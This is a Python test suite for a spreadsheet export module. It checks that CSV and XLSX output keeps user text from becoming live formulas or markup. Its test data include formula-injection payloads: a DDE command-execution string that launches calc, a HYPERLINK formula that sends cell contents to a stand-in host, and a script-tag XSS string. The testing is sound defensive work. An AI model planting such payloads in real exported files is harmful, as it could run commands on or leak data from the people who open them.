"""Words of a report in a table: never a formula, never other digits, in either kind of file."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.export.spreadsheet import Value, to_csv, to_xlsx

# What a spreadsheet runs: at the start of a cell, after blanks, and (where the list separator is ";") inside one.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "＝1+1",
    "－1+1",
    '=HYPERLINK("http://example.invalid/"&A1;"xem")',
    "=cmd|' /C calc'!A0",
)
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def cells(content: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def sheet(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    active = openpyxl.load_workbook(io.BytesIO(content)).active
    assert active is not None
    return [list(row) for row in active.iter_rows(min_row=2)]


@pytest.mark.parametrize("words", FORMULAS, ids=ascii)
def test_a_formula_stays_text_in_csv(words: str) -> None:
    (_, (cell, other)) = cells(to_csv(("a", "b"), [(words, "x")]))
    assert cell.startswith("'") and other == "x"


@pytest.mark.parametrize("words", ["x;=1+1", "x;@SUM(A1)", 'x";=1+1', "x\t=1+1"], ids=ascii)
def test_a_formula_inside_a_cell_stays_text_where_the_separator_is_another(words: str) -> None:
    content = to_csv(("a", "b"), [("x", words)])
    for separator in (";", "\t"):
        assert not [cell for row in cells(content, separator) for cell in row if cell.startswith(STARTS)]


@pytest.mark.parametrize("words", FORMULAS, ids=ascii)
def test_a_formula_stays_text_in_xlsx_even_when_the_cell_is_edited(words: str) -> None:
    ((cell, _),) = sheet(to_xlsx(("a", "b"), [(words, "x")]))
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert str(cell.value).split() == words.replace("\x00", " ").split()


def test_plain_words_and_numbers_come_back_as_they_are() -> None:
    row: tuple[Value, ...] = ("Hồ sơ quá hạn; trong đó: cấp xã", 12, Decimal("46.2"), None, '“trích” "dẫn", 5')
    assert cells(to_csv("abcde", [row]))[1] == [
        "Hồ sơ quá hạn; trong đó: cấp xã",
        "12",
        "46.2",
        "",
        '“trích” "dẫn", 5',
    ]
    (read,) = sheet(to_xlsx("abcde", [row]))
    assert [cell.value for cell in read] == [row[0], 12, 46.2, None, row[4]]
    assert not read[0].quotePrefix


@pytest.mark.parametrize("between", ["\t", "\x0b", "\x00", "\u2028", "\ud800"], ids=ascii)
def test_two_numbers_never_grow_together(between: str) -> None:
    """A character that a file cannot hold was dropped, so that "1<tab>2" became 12."""
    words = f"1{between}2"
    assert cells(to_csv("a", [(words,)]))[1] == ["1 2"]
    ((cell,),) = sheet(to_xlsx("a", [(words,)]))
    assert cell.value == "1 2"


def test_markup_stays_text() -> None:
    words = "<script>alert(1)</script> ![x](http://example.invalid/a.png) :material/home: &lt; ]]>"
    assert cells(to_csv("a", [(words,)]))[1] == [words]
    ((cell,),) = sheet(to_xlsx("a", [(words,)]))
    assert cell.value == words and cell.hyperlink is None


@given(st.text(max_size=40))
def test_no_words_break_a_table_or_begin_a_formula(words: str) -> None:
    (_, (cell,)) = cells(to_csv("a", [(f"x{words}",)])) if words else ([], [""])
    assert not cell.startswith(STARTS)
    ((kept, _),) = sheet(to_xlsx("ab", [(words, "x")]))
    assert kept.data_type in ("s", "n", "inlineStr") and (kept.value is None or isinstance(kept.value, str))
